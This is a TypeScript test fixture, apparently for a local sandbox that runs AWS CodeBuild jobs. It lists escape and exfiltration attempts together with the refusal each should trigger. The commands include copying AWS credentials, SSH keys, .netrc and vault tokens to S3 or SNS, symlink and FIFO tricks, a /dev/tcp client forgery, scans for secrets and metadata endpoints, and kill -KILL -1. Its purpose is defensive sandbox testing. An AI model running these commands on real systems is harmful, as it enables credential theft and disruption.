// What jobs try, each as one build. A name, and the commands; `HOME_OF_USER` is the home folder of whoever rehearses.
import { READ_KEY } from "../../support/home";

export interface Attack {
    readonly name: string;
    readonly commands: readonly string[];
    readonly artifacts?: object;
    /** Files of the source, and links by what they lead to. */
    readonly files?: Readonly<Record<string, string>>;
    readonly links?: Readonly<Record<string, string>>;
    /** The buildspec's own file in the source, instead of the commands. */
    readonly buildspec?: string;
    /** It would end whatever the user runs, where there are no walls. */
    readonly onlyInside?: true;
    /** What has to be said, in the log or as the reason. */
    readonly says: RegExp;
}

const HOME = "HOME_OF_USER";
const packed = (files: object) => ({ name: "Out", ...files });
/** What our own client says, with a file of the user's as what was piped in. */
const forged = (program: string, ...argv: readonly string[]) =>
    `exec 3<>/dev/tcp/127.0.0.1/4566 && printf '%s\\0' - ${program} "$PWD" ${HOME}/.ssh/id_rsa "" ${argv.length} ${argv.join(" ")} >&3 && cat <&3`;

export const ATTACKS: readonly Attack[] = [
    {
        name: "s3 cp of a file of the user",
        commands: [`aws s3 cp ${HOME}/.aws/credentials s3://bucket/key; aws s3 cp s3://bucket/key - || echo gone`],
        says: /No such file or directory: 'HOME_OF_USER\/\.aws\/credentials'/,
    },
    {
        name: "s3 cp through a link",
        commands: [`ln -s ${HOME}/.ssh/id_rsa key; aws s3 cp key s3://bucket/key; aws s3 cp s3://bucket/key -`],
        says: /No such file or directory: '\/codebuild\/output\/src\/key'/,
    },
    {
        name: "put-object --body",
        commands: [`aws s3api put-object --bucket bucket --key key --body ${HOME}/.netrc; aws s3 cp s3://bucket/key -`],
        says: /No such file or directory: 'HOME_OF_USER\/\.netrc'/,
    },
    {
        name: "file:// of an option",
        commands: [
            `aws sns publish --topic-arn arn:aws:sns:eu-west-1:111122223333:t --message file://${HOME}/.vault-token`,
        ],
        says: /Unable to load paramfile file:\/\/HOME_OF_USER\/\.vault-token: .*No such file/,
    },
    {
        name: "fileb:// by a link",
        commands: [
            `ln -s ${HOME}/.vault-token t; aws sns publish --topic-arn arn:aws:sns:eu-west-1:111122223333:t --message fileb://t`,
        ],
        says: /Unable to load paramfile fileb:\/\/t: .*No such file/,
    },
    {
        name: "docker build of the user's folder",
        commands: [`docker build -t x ${HOME}/other || echo refused`],
        says: /ENOENT|No such file or directory/,
    },
    {
        name: "docker build of a link to the user's folder",
        commands: [`ln -s ${HOME}/other context; docker build -t x context || echo refused`],
        says: /No such file or directory/,
    },
    {
        name: "docker build by a Dockerfile of the user's",
        commands: [`mkdir c; touch c/f; docker build -t x -f ${HOME}/other/Dockerfile c || echo refused`],
        says: /No such file or directory: 'HOME_OF_USER\/other\/Dockerfile'/,
    },
    {
        name: "artifacts through a link to a file",
        commands: [`ln -s ${HOME}/.ssh/id_rsa key; echo x >own`],
        artifacts: packed({ files: ["key"] }),
        says: /no matching artifact paths found/,
    },
    {
        name: "artifacts through a link to a folder",
        commands: [`ln -s ${HOME}/.aws folder; echo x >own`],
        artifacts: packed({ files: ["folder/credentials", "folder/**/*"] }),
        says: /no matching artifact paths found/,
    },
    {
        name: "artifacts by absolute path",
        commands: ["echo x >own"],
        artifacts: packed({ files: [`${HOME}/.netrc`] }),
        says: /no matching artifact paths found/,
    },
    {
        name: "artifacts by base directory",
        commands: ["echo x >own"],
        artifacts: packed({ files: ["**/*"], "base-directory": `${HOME}/.aws` }),
        says: /no matching base directory path found/,
    },
    {
        name: "buildspec.yml as a link",
        commands: [],
        links: { "buildspec.yml": `${HOME}/.aws/credentials` },
        buildspec: "",
        says: /buildspec\.yml: no such file or directory in the source/,
    },
    {
        name: "a source whose zip holds a link, and a file of the same name",
        commands: ["ls -l link; echo x >link/written || true; cat link/credentials"],
        links: { link: `${HOME}/.aws` },
        says: /cannot create link\/written|link\/written: No such file or directory/,
    },
    {
        name: "a piped-in file that is the user's, read",
        commands: [
            forged("docker", "login", "--username", "AWS", "--password-stdin", "x"),
            forged("aws", "s3", "cp", "-", "s3://bucket/key"),
            "aws s3 cp s3://bucket/key - || true",
        ],
        says: /No such file or directory: 'HOME_OF_USER\/\.ssh\/id_rsa'/,
    },
    {
        name: "a download to where a link leads",
        commands: [
            `echo mine >own; aws s3 cp own s3://bucket/key; ln -s ${HOME}/.ssh/authorized_keys out; aws s3 cp s3://bucket/key out`,
        ],
        says: /No such file or directory/,
    },
    {
        name: "a link, and a pipe, where the next command will be written",
        commands: [
            `for at in "$(dirname "$BASH_SOURCE")" /codebuild/local /codebuild/output/shell; do rm -f $at/script.sh; ln -s ${HOME}/.bashrc $at/script.sh; mkfifo $at/script.sh; done; true`,
            "echo the next command",
        ],
        says: /^the next command$/m,
    },
    {
        name: "its own command clients replaced",
        commands: [
            "for each in aws docker sleep; do echo 'echo mine' >/codebuild/local/bin/$each; rm -f /codebuild/local/bin/$each; done; aws --version",
        ],
        says: /rehearsed by fairlead/,
    },
    {
        name: "everything that can be read",
        commands: [
            `find / -xdev \\( -path /usr -o -path /proc -o -path /dev \\) -prune -o -type f -size -64k -print 2>/dev/null | head -20000 | tr '\\n' '\\0' | xargs -0 cat 2>/dev/null | grep -a CANARY; ls -a ${HOME} ${HOME}/.aws ~root 2>/dev/null; cat /proc/*/environ /proc/[0-9]*/root${HOME}/.netrc 2>/dev/null | grep -a CANARY; own-tool; echo looked`,
        ],
        says: /own tool\n(.*\n)*looked/,
    },
    {
        name: "the host's loopback, its link-local addresses and itself, directly and through the way out",
        commands: [
            "for at in 127.0.0.1 localhost 0.0.0.0 [::1] 169.254.169.254 $(echo OWN_ADDRESSES); do for way in '' $HTTP_PROXY; do curl -s -m 3 --noproxy '' ${way:+-x $way} http://$at:HOST_PORT/; curl -s -m 3 --noproxy '' -p ${way:+-x $way} http://$at:HOST_PORT/; done; done; echo asked",
        ],
        says: /which no job reaches(.*\n)*asked/,
    },
    {
        name: "sockets of the host, by file and by abstract name",
        commands: [
            'python3 -c \'import socket,sys\nfor name in sys.argv[1:]:\n  s=socket.socket(socket.AF_UNIX)\n  try:\n    s.connect(name.replace("@","\\0")); print(s.recv(100).decode())\n  except OSError as e: print("refused")\' @HOST_SOCKET HOST_FOLDER/socket',
        ],
        says: /refused\nrefused/,
    },
    {
        name: "what a login keeps in the kernel, and the machine's name",
        commands: [`perl -e '${READ_KEY}' HOST_KEY || printf nothing; echo; cat /proc/sys/kernel/hostname`],
        says: /^nothing\nfairlead$/m,
    },
    {
        name: "signals at all it can see",
        onlyInside: true,
        commands: ["kill -KILL -1; kill -KILL 1; true", "echo never"],
        says: /the job ended what it ran in|exit status 137/,
    },
];
